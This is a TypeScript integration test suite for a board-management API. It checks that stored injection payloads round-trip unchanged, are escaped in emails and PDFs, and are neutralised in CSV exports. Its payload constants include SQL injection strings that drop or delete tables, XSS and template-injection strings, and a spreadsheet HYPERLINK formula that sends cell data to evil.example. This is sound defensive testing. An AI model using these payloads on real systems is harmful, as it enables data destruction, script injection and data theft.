import { randomUUID } from 'node:crypto';
import { eventually, Mailbox, signUpOrganization, type TestOrganization, useTestStack } from '@cabinet/api/testing';
import type { BoardDetail, ComplianceExportView, MinutesView, RecommendationDetail } from '@cabinet/shared/contracts';
import { addMember, createBoard, type Peer, seatId, signedInPeer } from '../boards/board-helpers';
import { scheduleMeeting, shiftMeeting } from '../meetings/meeting-room-helpers';
import { csvRows } from '../support/csv-rows';
import { pdfText } from '../support/pdf-text';
import { DatabaseFingerprint } from './database-fingerprint';

/** Text that means something to SQL, to an HTML page, to a template engine and to a spreadsheet. */
const SQL = "'; DROP TABLE board; --";
const XSS = '<img src=x onerror=alert(1)>';
const TEMPLATE = "{{constructor.constructor('alert(1)')()}}";
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const PAYLOADS = [SQL, XSS, TEMPLATE, FORMULA, '"><svg onload=alert(1)>', "javascript:alert('x')", 'Robert"); DELETE FROM meeting; --'];

const ESCAPES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };
const escaped = (text: string) => text.replace(/[&<>"']/g, (char) => ESCAPES[char]!);

describe('injection payloads stored through the API', () => {
  let admin: TestOrganization;
  let peer: Peer;
  let board: BoardDetail;
  const fingerprint = { reader: null as DatabaseFingerprint | null };
  afterAll(async () => fingerprint.reader?.close());
  const stack = useTestStack();

  beforeAll(async () => {
    admin = await signUpOrganization(stack.api, { name: FORMULA });
    peer = await signedInPeer(stack.api, admin, XSS);
    board = await createBoard(admin, { name: `${XSS} ${TEMPLATE}`.slice(0, 120), purpose: PAYLOADS.join('\n'), onboardingGatesVoting: false });
    await addMember(admin, board.id, { userId: peer.userId, seatTypeId: seatId(board, 'peer') });
    fingerprint.reader = new DatabaseFingerprint(stack.database.name);
    await fingerprint.reader.open();
  });

  it('gives every payload back byte for byte, as a board, a meeting, an agenda item, input, a recommendation and minutes', async () => {
    const tablesBefore = Object.keys(await fingerprint.reader!.take());
    for (const payload of PAYLOADS) {
      const own = await createBoard(admin, { name: payload, purpose: payload });
      expect([own.settings.name, own.settings.purpose]).toEqual([payload, payload]);
      const meeting = await scheduleMeeting(admin, board.id, payload);
      const meetingUrl = `/api/boards/${board.id}/meetings/${meeting.id}`;
      expect((await admin.client.get<{ title: string }>(meetingUrl)).body.title).toBe(payload);
      const agenda = await admin.client.post<{ items: Array<{ title: string; details: string | null }> }>(`${meetingUrl}/agenda/items`, { kind: 'discussion', title: payload, details: payload, durationMinutes: 10 });
      expect(agenda.body.items.at(-1)).toMatchObject({ title: payload, details: payload });
      const input = await peer.client.post<{ id: string }>(`/api/boards/${board.id}/input`, { kind: 'idea', body: payload });
      expect(input.status).toBe(201);
      const inbox = await admin.client.get<Array<{ id: string; body: string }>>(`/api/boards/${board.id}/input`);
      expect(inbox.body.find((one) => one.id === input.body.id)?.body).toBe(payload);
      const drafted = await admin.client.post<RecommendationDetail>(`/api/boards/${board.id}/recommendations`, { title: payload, body: payload, source: 'direct' });
      expect([drafted.status, drafted.body.title, drafted.body.body]).toEqual([201, payload, payload]);
    }
    const tables = await fingerprint.reader!.take();
    expect(Object.keys(tables)).toEqual(tablesBefore);
    expect(Number(tables['board']!.split(':')[0])).toBeGreaterThan(PAYLOADS.length);
  });

  it('keeps minutes text as written, in JSON and in the printed minutes', async () => {
    const meeting = await scheduleMeeting(admin, board.id, 'Minutes meeting', 3);
    await shiftMeeting(stack.database.ownerUrl, admin.organizationId, meeting.id, -15);
    const minutesUrl = `/api/boards/${board.id}/meetings/${meeting.id}/minutes`;
    expect((await admin.client.post(minutesUrl)).status).toBe(201);
    const text = PAYLOADS.map((payload, index) => `## Item ${index + 1}\n\n${payload}`).join('\n\n');
    const saved = await admin.client.patch<MinutesView>(minutesUrl, { body: text, version: 1 });
    expect([saved.status, saved.body.body]).toEqual([200, text]);
    expect((await admin.client.get<MinutesView>(minutesUrl)).body.body).toBe(text);
    // The printed minutes render the Markdown: HTML and template text are printed as written, never interpreted.
    const pdf = await admin.client.get(`${minutesUrl}/pdf`);
    expect(pdf.status).toBe(200);
    const printed = pdfText(pdf.raw);
    for (const payload of PAYLOADS) expect(printed).toContain(payload);
  });

  it('escapes them in the HTML of the emails that name the board or the person', async () => {
    const email = `member-${randomUUID()}@example.org`;
    await addMember(admin, board.id, { seatTypeId: seatId(board, 'peer'), displayName: XSS, email });
    await scheduleMeeting(admin, board.id, XSS, 9);
    const [invitation] = await new Mailbox().waitForMessagesTo(email);
    expect(invitation!.html).toContain(escaped(board.settings.name));
    expect(invitation!.html).not.toContain(XSS);
    // Template text arrives as written (no engine evaluated it), escaped like any other text.
    expect(invitation!.html).toContain(escaped(TEMPLATE));
    expect(invitation!.text).toContain(board.settings.name);

    // The organisation's name (a formula) in an invitation to join it.
    const invitee = `invitee-${randomUUID()}@example.org`;
    expect((await admin.client.post('/api/organization/invitations', { email: invitee, role: 'staff' })).status).toBe(201);
    const [joinEmail] = await new Mailbox().waitForMessagesTo(invitee);
    expect(joinEmail!.html).toContain(escaped(FORMULA));
    expect(joinEmail!.html).not.toContain(FORMULA);
  });

  it('neutralises formulas in every text field of a CSV export', async () => {
    const pack = await admin.client.post<{ id: string }>('/api/compliance/packs', {
      name: '+SUM(1,1) pack',
      description: FORMULA,
      rules: [{ key: 'four-meetings', kind: 'meetings_held', title: '-2+3 meetings', params: { min: 4, period: { per: 'year' } }, source: { citation: "@SUM(A1) '; DROP TABLE board; --", url: null } }],
    });
    expect(pack.status).toBe(201);
    const csvBoard = await createBoard(admin, { name: FORMULA });
    expect((await admin.client.post(`/api/boards/${csvBoard.id}/compliance/packs`, { packId: pack.body.id })).status).toBe(204);
    const exportsUrl = `/api/boards/${csvBoard.id}/compliance/exports`;
    const periodFrom = `${new Date().getUTCFullYear()}-01-01`;
    // Results are evaluated by the worker after the pack is attached; an export waits for them.
    const asked = await eventually(async () => {
      const response = await admin.client.post<ComplianceExportView>(exportsUrl, { kind: 'results_csv', periodFrom });
      expect(response.status).toBe(201);
      return response.body;
    }, 30_000, 250);
    const file = await eventually(async () => {
      const response = await admin.client.get(`/api/compliance/exports/${asked.id}/file`);
      expect(response.status).toBe(200);
      return response.raw;
    }, 30_000, 250);
    const [header, ...rows] = csvRows(file);
    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]);
    expect(rows.length).toBeGreaterThan(0);
    expect(new Set(column('board'))).toEqual(new Set([`'${FORMULA}`]));
    expect(new Set(column('organisation'))).toEqual(new Set([`'${FORMULA}`]));
    expect(new Set(column('pack'))).toEqual(new Set(["'+SUM(1,1) pack"]));
    expect(new Set(column('title'))).toEqual(new Set(["'-2+3 meetings"]));
    expect(new Set(column('source_citation'))).toEqual(new Set(["'@SUM(A1) '; DROP TABLE board; --"]));
    // No field of any row starts a formula.
    for (const row of rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });
});
